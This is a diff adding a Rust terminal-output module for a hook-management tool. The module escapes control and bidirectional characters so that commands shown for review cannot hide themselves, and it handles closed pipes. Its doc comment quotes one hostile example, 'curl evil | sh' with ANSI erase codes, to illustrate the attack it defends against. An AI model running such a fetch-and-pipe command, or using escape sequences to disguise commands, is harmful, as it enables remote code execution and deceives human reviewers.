@@ -1,0 +1,129 @@
+//! Everything `hook` prints goes through here: text for a person has its control characters
+//! escaped, and a closed stdout ends the command quietly instead of panicking.
+//!
+//! Why escape: `hook list` is the review before `hook trust`. A command such as
+//! `curl evil | sh \x1b[2K\r  [Bash] command ./lint.sh` would otherwise erase itself on a
+//! terminal and show only the harmless tail. Every control character (C0, DEL, C1) and every
+//! Unicode bidirectional override is shown as an escape (`\x1b`, `\u{202e}`), so what is
+//! printed is what would run. Machine output (`--json`, `hook run`'s outcome, schemas, converted
+//! configs) is printed exactly: JSON encoders escape control characters themselves.
+
+use std::borrow::Cow;
+use std::fmt::Write as _;
+use std::io::{self, Write};
+
+/// Prints one line of human text on stdout, every control character escaped (line feeds too, so
+/// a value can never start a line of its own); a closed stdout ends the process quietly.
+/// Multi-line text is printed a line per call.
+macro_rules! outln {
+    () => {
+        $crate::terminal::print_text("")
+    };
+    ($($arg:tt)*) => {
+        $crate::terminal::print_text(&format!($($arg)*))
+    };
+}
+
+/// Prints one line of human text on stderr, every control character escaped.
+macro_rules! errln {
+    ($($arg:tt)*) => {
+        $crate::terminal::eprint_text(&format!($($arg)*))
+    };
+}
+
+pub(crate) use {errln, outln};
+
+/// Whether `c` could move the cursor, erase, recolour or reorder what a terminal shows.
+fn is_hidden_control(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
+        )
+}
+
+/// `text` on one line: every control character escaped, line feeds too.
+pub(crate) fn one_line(text: &str) -> Cow<'_, str> {
+    if !text.chars().any(is_hidden_control) {
+        return Cow::Borrowed(text);
+    }
+    let mut escaped = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if !is_hidden_control(c) {
+            escaped.push(c);
+            continue;
+        }
+        // Writing to a String cannot fail.
+        let _ = match c {
+            '\n' => escaped.write_str("\\n"),
+            '\r' => escaped.write_str("\\r"),
+            '\t' => escaped.write_str("\\t"),
+            c if (c as u32) < 0x100 => write!(escaped, "\\x{:02x}", c as u32),
+            c => write!(escaped, "\\u{{{:x}}}", c as u32),
+        };
+    }
+    Cow::Owned(escaped)
+}
+
+/// Writes human text and a newline to stdout (see [`outln!`]).
+pub(crate) fn print_text(text: &str) {
+    print_exact(&format!("{}\n", one_line(text)));
+}
+
+/// Writes human text and a newline to stderr (see [`errln!`]). A closed stderr is ignored:
+/// there is nowhere left to say anything.
+pub(crate) fn eprint_text(text: &str) {
+    let _ = writeln!(io::stderr().lock(), "{}", one_line(text));
+}
+
+/// Writes machine output (JSON, a schema, a converted config) to stdout exactly as given.
+pub(crate) fn print_exact(text: &str) {
+    let mut stdout = io::stdout().lock();
+    if let Err(error) = stdout
+        .write_all(text.as_bytes())
+        .and_then(|()| stdout.flush())
+    {
+        closed_stdout(&error);
+    }
+}
+
+/// Writes machine output and a newline to stdout exactly.
+pub(crate) fn println_exact(text: &str) {
+    print_exact(&format!("{text}\n"));
+}
+
+/// A reader of our output went away (`hook list | head -1`): stop quietly, as other Unix tools
+/// do. Any other write error is reported once on stderr.
+fn closed_stdout(error: &io::Error) -> ! {
+    if error.kind() != io::ErrorKind::BrokenPipe {
+        let _ = writeln!(
+            io::stderr().lock(),
+            "error: cannot write to stdout: {error}"
+        );
+        std::process::exit(1);
+    }
+    std::process::exit(0);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn escapes_terminal_controls_and_bidi_overrides() {
+        let table = [
+            ("plain text", "plain text"),
+            ("a\x1b[2K\rb", "a\\x1b[2K\\rb"),
+            ("two\nlines", "two\\nlines"),
+            ("tab\there", "tab\\there"),
+            ("del\x7f", "del\\x7f"),
+            ("csi\u{9b}31m", "csi\\x9b31m"),
+            ("rtl\u{202e}txt", "rtl\\u{202e}txt"),
+            ("isolate\u{2066}x", "isolate\\u{2066}x"),
+            ("naïve ✓ 日本 a\\b", "naïve ✓ 日本 a\\b"),
+        ];
+        for (input, line) in table {
+            assert_eq!(one_line(input), line, "one_line({input:?})");
+        }
+    }
+}
